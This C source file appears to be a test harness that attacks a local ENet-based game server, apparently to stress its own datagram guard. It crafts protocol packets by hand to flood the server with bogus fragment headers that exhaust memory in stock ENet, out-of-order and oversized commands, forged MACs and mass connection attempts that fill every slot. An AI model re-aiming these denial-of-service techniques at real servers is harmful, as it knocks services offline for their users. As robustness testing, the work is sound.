/*
 * Somebody who is really connected, has joined, and then sends what no program of ours would:
 * ENet's protocol by hand, so that every byte is ours to choose, with MACs that are right.
 *
 * Usage: attack_peer LINK WHO RATE_PER_S SECONDS
 *   member     joins; its datagrams carry the right MAC
 *   forger     joins; its MACs are wrong
 *   stranger   sends a member's datagrams from a port that nobody has proven
 *   knocker    proves its address once and opens connection after connection, answering none
 *   crowd      the same from CROWD proven ports, more than a small server has slots
 * Prints "ready", waits for a line, attacks, prints one line of JSON, and leaves at the end of its
 * standard input. What it sends goes round through the datagrams of ATTACKS.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "shared/link.h"
#include "shared/message.h"
#include "shared/platform/host_clock.h"
#include "shared/prng.h"
#include "shared/secure/datagram_guard.h"
#include "shared/secure/entropy.h"
#include "shared/secure/secure_peer.h"

enum {
    CROWD = 700,
    TRIES = 20,
    AGAIN_MS = 200,
    SETTLE_MS = 30,
    UDP_BYTES_MAX = 65507,
    HEADER_BYTES = 8, /* with a time and the MAC */
    MAC_AT = 4,
    COMMANDS_BYTES_MAX = GUARD_DATAGRAM_BYTES_MAX - HEADER_BYTES,
    CONTROL_CHANNEL = 0xff,
    ACKNOWLEDGED = 0x80,
    UNSEQUENCED = 0x40,
    COMMAND_KIND = 0x0f,
    ACKNOWLEDGE = 1,
    CONNECT = 2,
    VERIFY = 3,
    DISCONNECT = 4,
    PING = 5,
    RELIABLE = 6,
    UNRELIABLE = 7,
    FRAGMENT = 8,
    UNSEQUENCED_DATA = 9,
    UNRELIABLE_FRAGMENT = 12,
    ENET_COMMAND_COUNT = 13,
    CONNECT_BYTES = 48,
    RATE_PER_S_MAX = 200000,
    SECONDS_MAX = 30,
    TURN_NS = NS_PER_MS
};

/* Of ENet's commands, without their payload. */
static const size_t COMMAND_BYTES[ENET_COMMAND_COUNT] = {
    0, 8, 48, 44, 8, 4, 6, 8, 24, 8, 12, 16, 24};
/* Where the length of a payload is; 0: none. */
static const size_t LENGTH_AT[ENET_COMMAND_COUNT] = {0, 0, 0, 0, 0, 0, 4, 6, 6, 6, 0, 0, 6};

typedef struct {
    int socket; /* that attacks */
    int home;   /* that is connected; the same but for a stranger */
    struct sockaddr_in server;
    SecurePeer secure;
    uint8_t connect_id[CONNECT_ID_BYTES];
    uint16_t slot;
    uint8_t session;
    bool verified;  /* ENet's verify has come */
    bool shaken;    /* Noise's second message has come */
    bool delivered; /* the newest reliable packet was acknowledged */
    uint16_t control_number;
    uint16_t reliable_number;
    Prng prng;
    int64_t round; /* of all ATTACKS */
    int64_t sent;
    int64_t sent_bytes;
    int64_t unsent;
    int64_t received_bytes;
} Attacker;

static void fail(const char *what)
{
    (void)fprintf(stderr, "attack_peer: %s\n", what);
    exit(EXIT_FAILURE);
}

static void put_u16(uint8_t *bytes, unsigned value)
{
    bytes[0] = (uint8_t)(value >> 8);
    bytes[1] = (uint8_t)value;
}

static void put_u32(uint8_t *bytes, uint32_t value)
{
    put_u16(bytes, value >> 16);
    put_u16(bytes + 2, value & 0xffff);
}

static uint16_t get_u16(const uint8_t *bytes)
{
    return (uint16_t)(bytes[0] << 8 | bytes[1]);
}

/* --- datagrams --- */

static void send_bytes(Attacker *attacker, const uint8_t *bytes, size_t size_bytes)
{
    if (send(attacker->socket, bytes, size_bytes, MSG_DONTWAIT) == (ssize_t)size_bytes) {
        attacker->sent++;
        attacker->sent_bytes += (int64_t)size_bytes;
    } else {
        attacker->unsent++;
    }
}

/* Header and MAC around commands that begin at bytes + HEADER_BYTES. */
static void send_commands(Attacker *attacker, uint8_t *bytes, size_t size_bytes, bool right)
{
    uint32_t mac;

    put_u16(bytes, 0x8000U | (unsigned)attacker->session << 12 | attacker->slot);
    put_u16(bytes + 2, (unsigned)(host_clock_now().ns / NS_PER_MS) & 0xffff);
    memcpy(bytes + MAC_AT, attacker->connect_id, CONNECT_ID_BYTES);
    mac = secure_peer_mac(&attacker->secure, bytes, size_bytes) ^ (right ? 0U : 1U);
    memcpy(bytes + MAC_AT, &mac, sizeof mac);
    send_bytes(attacker, bytes, size_bytes);
}

static void put_head(uint8_t *command, unsigned kind_and_flags, unsigned channel, unsigned number)
{
    command[0] = (uint8_t)kind_and_flags;
    command[1] = (uint8_t)channel;
    put_u16(command + 2, number);
}

static void acknowledge(Attacker *attacker, const uint8_t *command, uint16_t sent_time)
{
    uint8_t bytes[HEADER_BYTES + 8];

    put_head(bytes + HEADER_BYTES, ACKNOWLEDGE, command[1], get_u16(command + 2));
    put_u16(bytes + HEADER_BYTES + 4, get_u16(command + 2));
    put_u16(bytes + HEADER_BYTES + 6, sent_time);
    send_commands(attacker, bytes, sizeof bytes, true);
}

/* The packet of the newest reliable number. */
static void send_reliable(Attacker *attacker, const uint8_t *payload, size_t payload_bytes)
{
    uint8_t bytes[HEADER_BYTES + 6 + GUARD_PAYLOAD_BYTES_MAX];

    put_head(bytes + HEADER_BYTES, RELIABLE | ACKNOWLEDGED, 0, attacker->reliable_number);
    put_u16(bytes + HEADER_BYTES + 4, (unsigned)payload_bytes);
    memcpy(bytes + HEADER_BYTES + 6, payload, payload_bytes);
    send_commands(attacker, bytes, HEADER_BYTES + 6 + payload_bytes, true);
}

/* --- what the server says --- */

static void
take_command(Attacker *attacker, const uint8_t *command, size_t payload_bytes, uint16_t sent_time)
{
    const unsigned kind = command[0] & COMMAND_KIND;
    uint8_t server_key[NOISE_KEY_BYTES];

    if (kind == VERIFY && !attacker->verified &&
        memcmp(command + 40, attacker->connect_id, CONNECT_ID_BYTES) == 0) {
        attacker->verified = true;
        attacker->slot = get_u16(command + 4);
        attacker->session = command[7];
    }
    if (kind == ACKNOWLEDGE && command[1] == 0 &&
        get_u16(command + 4) == attacker->reliable_number) {
        attacker->delivered = true;
    }
    if ((command[0] & ACKNOWLEDGED) != 0) {
        acknowledge(attacker, command, sent_time);
    }
    if (kind == RELIABLE && !attacker->shaken && command[6] == FRAME_SECOND) {
        attacker->shaken = secure_peer_second(
            &attacker->secure, host_clock_now(), command + 6, payload_bytes, server_key);
    }
}

static void take_datagram(Attacker *attacker, const uint8_t *bytes, size_t size_bytes)
{
    GuardHeader header;
    uint16_t sent_time;
    size_t at;

    if (!guard_header(bytes, size_bytes, &header)) {
        return;
    }
    sent_time = header.mac_at == MAC_AT ? get_u16(bytes + 2) : 0;
    at = header.commands_at;
    while (size_bytes - at >= 4) {
        const unsigned kind = bytes[at] & COMMAND_KIND;
        size_t fixed_bytes = kind < ENET_COMMAND_COUNT ? COMMAND_BYTES[kind] : 0;
        size_t payload_bytes = 0;

        if (fixed_bytes == 0 || fixed_bytes > size_bytes - at) {
            fail("the server says what ENet does not");
        }
        if (LENGTH_AT[kind] != 0) {
            payload_bytes = get_u16(bytes + at + LENGTH_AT[kind]);
        }
        if (payload_bytes > size_bytes - at - fixed_bytes) {
            fail("the server's datagram is cut off");
        }
        take_command(attacker, bytes + at, payload_bytes, sent_time);
        at += fixed_bytes + payload_bytes;
    }
}

static void hear(Attacker *attacker, int wait_ms)
{
    struct pollfd waiting = {.fd = attacker->socket, .events = POLLIN};
    uint8_t bytes[2048];
    ssize_t size_bytes;

    if (poll(&waiting, 1, wait_ms) <= 0) {
        return;
    }
    while ((size_bytes = recv(attacker->socket, bytes, sizeof bytes, MSG_DONTWAIT)) >= 0) {
        attacker->received_bytes += size_bytes;
        take_datagram(attacker, bytes, (size_t)size_bytes);
    }
}

/* For so long, or until `done`. */
static void hear_for(Attacker *attacker, int64_t wait_ms, const bool *done)
{
    const HostTime until = {host_clock_now().ns + wait_ms * NS_PER_MS};

    while (!*done && host_clock_now().ns < until.ns) {
        hear(attacker, 5);
    }
}

/* Sends a packet again and again, as ENet would, until the server has it. */
static void deliver(Attacker *attacker, const uint8_t *payload, size_t payload_bytes)
{
    attacker->reliable_number++;
    attacker->delivered = false;
    for (int i = 0; i < TRIES && !attacker->delivered; i++) {
        send_reliable(attacker, payload, payload_bytes);
        hear_for(attacker, AGAIN_MS, &attacker->delivered);
    }
    if (!attacker->delivered) {
        fail("the server takes nothing");
    }
}

/* --- connecting --- */

static void open_socket(Attacker *attacker)
{
    attacker->socket = socket(AF_INET, SOCK_DGRAM, 0);
    if (attacker->socket < 0 || connect(attacker->socket,
                                        (const struct sockaddr *)&attacker->server,
                                        sizeof attacker->server) != 0) {
        fail("no socket");
    }
}

static void prove_address(Attacker *attacker)
{
    struct pollfd waiting = {.fd = attacker->socket, .events = POLLIN};
    Hello hello = {.version = PROTOCOL_VERSION, .nonce = {1, 2, 3, 4, 5, 6, 7, 8}};
    HelloAnswer answer;
    uint8_t bytes[HELLO_BYTES];
    ssize_t size_bytes = 0;

    hello_encode(&hello, bytes);
    for (int i = 0; i < TRIES && size_bytes <= 0; i++) {
        send_bytes(attacker, bytes, sizeof bytes);
        if (poll(&waiting, 1, AGAIN_MS) > 0) {
            size_bytes = recv(attacker->socket, bytes, sizeof bytes, MSG_DONTWAIT);
        }
    }
    if (size_bytes < 0 || !hello_answer_decode(bytes, (size_t)size_bytes, &answer)) {
        fail("no answer to a hello");
    }
    attacker->received_bytes += size_bytes;
    secure_peer_prove(&attacker->secure, SEALED_FROM_CLIENT, answer.cookie);
}

/* ENet's connect, with the right token and MAC. */
static void send_connect(Attacker *attacker, uint32_t token)
{
    uint8_t bytes[HEADER_BYTES + CONNECT_BYTES] = {0x8f, 0xff, 0, 1};
    uint8_t *command = bytes + HEADER_BYTES;
    uint32_t mac;

    put_head(command, CONNECT | ACKNOWLEDGED, CONTROL_CHANNEL, 1);
    put_u16(command + 6, 0xffff); /* no session ids yet */
    put_u32(command + 8, GUARD_MTU_BYTES_MAX);
    put_u32(command + 12, 65536);
    put_u32(command + 16, GUARD_CHANNELS);
    put_u32(command + 28, 5000);
    put_u32(command + 32, 2);
    put_u32(command + 36, 2);
    memcpy(command + 40, attacker->connect_id, CONNECT_ID_BYTES);
    put_u32(command + 44, token);
    mac = secure_peer_mac(&attacker->secure, bytes, sizeof bytes);
    memcpy(bytes + MAC_AT, &mac, sizeof mac);
    send_bytes(attacker, bytes, sizeof bytes);
}

static void shake_hands(Attacker *attacker)
{
    const uint32_t token = cookie_token(attacker->secure.cookie);
    uint8_t ephemeral[NOISE_KEY_BYTES];
    uint8_t frame[FRAME_FIRST_BYTES];
    const bool never = false;

    secure_random(attacker->connect_id, sizeof attacker->connect_id);
    for (int i = 0; i < TRIES && !attacker->verified; i++) {
        send_connect(attacker, token);
        hear_for(attacker, AGAIN_MS, &attacker->verified);
    }
    if (!attacker->verified) {
        fail("no verify");
    }
    hear_for(attacker, SETTLE_MS, &never);
    secure_random(ephemeral, sizeof ephemeral);
    secure_peer_first(&attacker->secure, ephemeral, frame);
    deliver(attacker, frame, sizeof frame);
    hear_for(attacker, (int64_t)TRIES * AGAIN_MS, &attacker->shaken);
    if (!attacker->shaken) {
        fail("no second frame");
    }
}

static void join(Attacker *attacker, const Link *link, const char *who)
{
    Message message = {.type = MESSAGE_JOIN};
    uint8_t plain[MESSAGE_BYTES_MAX];
    uint8_t sealed[FRAME_BYTES_MAX];
    size_t plain_bytes;

    message.join.version = PROTOCOL_VERSION;
    memcpy(message.join.code, link->code, CODE_CHARS);
    (void)snprintf(message.join.name, sizeof message.join.name, "Mallory the %s", who);
    plain_bytes = message_encode(&message, plain);
    if (!secure_peer_seal(
            &attacker->secure, host_clock_now(), SEALED_ORDERED, plain, plain_bytes, sealed)) {
        fail("nothing can be sealed");
    }
    deliver(attacker, sealed, plain_bytes + SEALED_OVERHEAD_BYTES);
}

/* --- the attacks: each fills the commands of one datagram and returns their size --- */

typedef size_t Attack(Attacker *attacker, uint8_t *commands);

/* As often as the datagram has room for. */
static size_t fill(uint8_t *commands, const uint8_t *command, size_t command_bytes)
{
    size_t at = 0;

    while (at + command_bytes <= COMMANDS_BYTES_MAX) {
        memcpy(commands + at, command, command_bytes);
        at += command_bytes;
    }
    return at;
}

/* Each the first of a packet of a million fragments: stock ENet keeps a bit for every one of them,
   that is 128 KiB for the 25 bytes here, however short it is told that the packet will be. */
static size_t fragments_of(Attacker *attacker, uint8_t *commands, unsigned kind)
{
    uint8_t command[25] = {0};
    size_t at = 0;

    put_head(command, kind, kind == (FRAGMENT | ACKNOWLEDGED) ? 0 : 1, 0);
    put_u16(command + 6, 1);
    put_u32(command + 8, 1024 * 1024);
    put_u32(command + 16, 1000);
    while (at + sizeof command <= COMMANDS_BYTES_MAX) {
        const unsigned number =
            attacker->reliable_number + 1 + (unsigned)prng_below(&attacker->prng, 4096);

        put_u16(command + 2, kind == (FRAGMENT | ACKNOWLEDGED) ? number : 0);
        put_u16(command + 4, number);
        memcpy(commands + at, command, sizeof command);
        at += sizeof command;
    }
    return at;
}

static size_t fragments(Attacker *attacker, uint8_t *commands)
{
    return fragments_of(attacker, commands, FRAGMENT | ACKNOWLEDGED);
}

static size_t unreliable_fragments(Attacker *attacker, uint8_t *commands)
{
    return fragments_of(attacker, commands, UNRELIABLE_FRAGMENT);
}

/* Empty ones that wait for a reliable packet which never comes, each to be sorted in before all. */
static size_t empty_unreliable(Attacker *attacker, uint8_t *commands)
{
    uint8_t command[8] = {0};
    size_t at = 0;

    put_head(command, UNRELIABLE, 0, attacker->reliable_number + 100U);
    while (at + sizeof command <= COMMANDS_BYTES_MAX) {
        put_u16(command + 4, (unsigned)(40000 - attacker->round % 200 * 150 - (int64_t)at / 8));
        memcpy(commands + at, command, sizeof command);
        at += sizeof command;
    }
    return at;
}

/* The same with reliable ones, backwards. */
static size_t empty_reliable(Attacker *attacker, uint8_t *commands)
{
    uint8_t command[6] = {0};
    size_t at = 0;

    while (at + sizeof command <= COMMANDS_BYTES_MAX) {
        put_head(command,
                 RELIABLE | ACKNOWLEDGED,
                 0,
                 attacker->reliable_number + 30000U - (unsigned)(attacker->round % 150) * 199U -
                     (unsigned)(at / sizeof command));
        memcpy(commands + at, command, sizeof command);
        at += sizeof command;
    }
    return at;
}

static size_t empty_unsequenced(Attacker *attacker, uint8_t *commands)
{
    uint8_t command[8] = {0};

    put_head(command, UNSEQUENCED_DATA | UNSEQUENCED, 1, 0);
    put_u16(command + 4, (unsigned)attacker->sent & 0xffff);
    return fill(commands, command, sizeof command);
}

static size_t pings(Attacker *attacker, uint8_t *commands)
{
    uint8_t command[4];

    put_head(command, PING | ACKNOWLEDGED, CONTROL_CHANNEL, attacker->control_number);
    return fill(commands, command, sizeof command);
}

static size_t acknowledgements(Attacker *attacker, uint8_t *commands)
{
    uint8_t command[8] = {0};

    put_head(command, ACKNOWLEDGE, 0, (unsigned)attacker->sent & 0xffff);
    put_u16(command + 4, (unsigned)attacker->sent & 0xffff);
    return fill(commands, command, sizeof command);
}

/* Lengths that lie about what follows. */
static size_t cut_off(Attacker *attacker, uint8_t *commands)
{
    put_head(commands, RELIABLE | ACKNOWLEDGED, 0, attacker->reliable_number + 1U);
    put_u16(commands + 4, (unsigned)prng_below(&attacker->prng, 65536));
    memset(commands + 6, 0, 20);
    return 26;
}

/* The worst that the guard lets pass: as many data commands as it admits, as far ahead as it
   admits, last ones first, none of which can be opened. */
static size_t far_ahead(Attacker *attacker, uint8_t *commands)
{
    const size_t command_bytes = 6 + GUARD_PAYLOAD_BYTES_MIN;
    size_t at = 0;

    for (unsigned i = 0; i < GUARD_DATA_COMMANDS_MAX; i++) {
        put_head(commands + at,
                 RELIABLE | ACKNOWLEDGED,
                 0,
                 attacker->reliable_number + GUARD_RELIABLE_AHEAD_MAX -
                     (unsigned)(attacker->round % 15) * GUARD_DATA_COMMANDS_MAX - i);
        put_u16(commands + at + 4, GUARD_PAYLOAD_BYTES_MIN);
        memset(commands + at + 6, FRAME_MESSAGE, GUARD_PAYLOAD_BYTES_MIN);
        at += command_bytes;
    }
    return at;
}

/* As long as UDP can be, and everything from there down to one byte too many. */
static size_t oversized(Attacker *attacker, uint8_t *commands)
{
    static const size_t sizes[] = {
        GUARD_DATAGRAM_BYTES_MAX + 1, 1500, 4096, 4097, 20000, UDP_BYTES_MAX};
    uint8_t command[4];

    (void)attacker;
    put_head(command, PING | ACKNOWLEDGED, CONTROL_CHANNEL, 1);
    (void)fill(commands, command, sizeof command);
    return sizes[prng_below(&attacker->prng, sizeof sizes / sizeof sizes[0])] - HEADER_BYTES;
}

static Attack *const ATTACKS[] = {fragments,
                                  unreliable_fragments,
                                  empty_unreliable,
                                  empty_reliable,
                                  empty_unsequenced,
                                  pings,
                                  acknowledgements,
                                  cut_off,
                                  far_ahead,
                                  oversized};

static void attack_once(Attacker *attacker, int64_t count, bool right)
{
    static uint8_t bytes[UDP_BYTES_MAX];
    const int64_t kinds = (int64_t)(sizeof ATTACKS / sizeof ATTACKS[0]);
    Attack *attack = ATTACKS[count % kinds];

    attacker->round = count / kinds;
    send_commands(attacker, bytes, HEADER_BYTES + attack(attacker, bytes + HEADER_BYTES), right);
}

static void knock(Attacker *attacker)
{
    const uint64_t random = prng_u64(&attacker->prng) | 1;

    memcpy(attacker->connect_id, &random, sizeof attacker->connect_id);
    send_connect(attacker, cookie_token(attacker->secure.cookie));
}

/* --- the whole --- */

typedef struct {
    const char *who;
    int knockers; /* 0: what was joined sends bombs */
    bool forges;
    bool is_stranger;
    int64_t rate_per_s;
    int64_t seconds;
} Plan;

/* Nothing is answered any more: acknowledgements would only take the place of attacks. */
static void attack(Attacker *attackers, const Plan *plan)
{
    HostTime turn = host_clock_now();
    const int64_t turns = plan->seconds * (NS_PER_S / TURN_NS);
    const HostTime end = {turn.ns + 2 * plan->seconds * NS_PER_S};
    int64_t due_thousandths = 0;
    int64_t count = 0;

    for (int64_t i = 0; i < turns && host_clock_now().ns < end.ns; i++) {
        due_thousandths += plan->rate_per_s;
        for (; due_thousandths >= 1000; due_thousandths -= 1000) {
            if (plan->knockers > 0) {
                knock(&attackers[count % plan->knockers]);
            } else {
                attack_once(attackers, count, !plan->forges);
            }
            count++;
        }
        turn.ns += TURN_NS;
        host_clock_sleep_until(turn);
    }
}

static bool read_plan(int argument_count, char *arguments[], Plan *plan)
{
    const char *who = argument_count == 5 ? arguments[2] : "";

    plan->who = who;
    plan->knockers = strcmp(who, "crowd") == 0 ? CROWD : strcmp(who, "knocker") == 0;
    plan->forges = strcmp(who, "forger") == 0;
    plan->is_stranger = strcmp(who, "stranger") == 0;
    plan->rate_per_s = argument_count == 5 ? strtoll(arguments[3], NULL, 10) : 0;
    plan->seconds = argument_count == 5 ? strtoll(arguments[4], NULL, 10) : 0;
    return (plan->knockers > 0 || plan->forges || plan->is_stranger ||
            strcmp(who, "member") == 0) &&
           plan->rate_per_s > 0 && plan->rate_per_s <= RATE_PER_S_MAX && plan->seconds > 0 &&
           plan->seconds <= SECONDS_MAX;
}

static void report(const Attacker *attackers, int count)
{
    Attacker sum = {.sent = 0};

    for (int i = 0; i < count; i++) {
        const Attacker *attacker = &attackers[i];
        uint8_t bytes[2048];
        ssize_t size_bytes;

        while ((size_bytes = recv(attacker->socket, bytes, sizeof bytes, MSG_DONTWAIT)) >= 0) {
            sum.received_bytes += size_bytes;
        }
        sum.received_bytes += attacker->received_bytes;
        sum.sent += attacker->sent;
        sum.sent_bytes += attacker->sent_bytes;
        sum.unsent += attacker->unsent;
    }
    (void)printf("{\"sent\":%lld,\"sent_bytes\":%lld,\"unsent\":%lld,\"received_bytes\":%lld}\n",
                 (long long)sum.sent,
                 (long long)sum.sent_bytes,
                 (long long)sum.unsent,
                 (long long)sum.received_bytes);
    (void)fflush(stdout);
}

/* Leaves at once, so that the seat is not taken for that of the next attacker. */
static void say_goodbye(Attacker *attacker)
{
    uint8_t bytes[HEADER_BYTES + 8] = {0};

    attacker->socket = attacker->home;
    put_head(bytes + HEADER_BYTES, DISCONNECT | UNSEQUENCED, CONTROL_CHANNEL, 0);
    send_commands(attacker, bytes, sizeof bytes, true);
}

/* As far as the plan wants before the attack. */
static void prepare(Attacker *attacker, const Plan *plan, const Link *link, uint64_t seed)
{
    attacker->server = (struct sockaddr_in){.sin_family = AF_INET,
                                            .sin_port = htons(link->port),
                                            .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    prng_seed(&attacker->prng, seed);
    open_socket(attacker);
    prove_address(attacker);
    if (plan->knockers == 0) {
        shake_hands(attacker);
        join(attacker, link, plan->who);
    }
    attacker->home = attacker->socket;
    if (plan->is_stranger) {
        open_socket(attacker); /* a port of which the server knows nothing */
    }
}

/* Or for the end of the standard input; meanwhile it behaves. */
static void wait_for_line(Attacker *attacker, const Plan *plan)
{
    struct pollfd line = {.fd = STDIN_FILENO, .events = POLLIN};
    char letter = 0;

    while (letter != '\n') {
        if (plan->knockers == 0 && !plan->is_stranger) {
            hear(attacker, 0);
        }
        if (poll(&line, 1, 20) > 0 && read(STDIN_FILENO, &letter, 1) <= 0) {
            return;
        }
    }
}

int main(int argument_count, char *arguments[])
{
    static Attacker attackers[CROWD];
    Plan plan = {.knockers = 0};
    LinkError error;
    Link link;
    int count;

    if (!read_plan(argument_count, arguments, &plan) || !link_parse(arguments[1], &link, &error) ||
        !secure_start()) {
        (void)fprintf(stderr,
                      "usage: attack_peer LINK member|forger|stranger|knocker|crowd RATE_PER_S "
                      "SECONDS\n");
        return 2;
    }
    count = plan.knockers > 0 ? plan.knockers : 1;
    for (int i = 0; i < count; i++) {
        prepare(&attackers[i], &plan, &link, (uint64_t)i + 1);
    }
    (void)printf("ready\n");
    (void)fflush(stdout);
    wait_for_line(attackers, &plan);
    attack(attackers, &plan);
    report(attackers, count);
    if (plan.knockers == 0) {
        wait_for_line(attackers, &plan);
        say_goodbye(attackers);
    }
    return EXIT_SUCCESS;
}
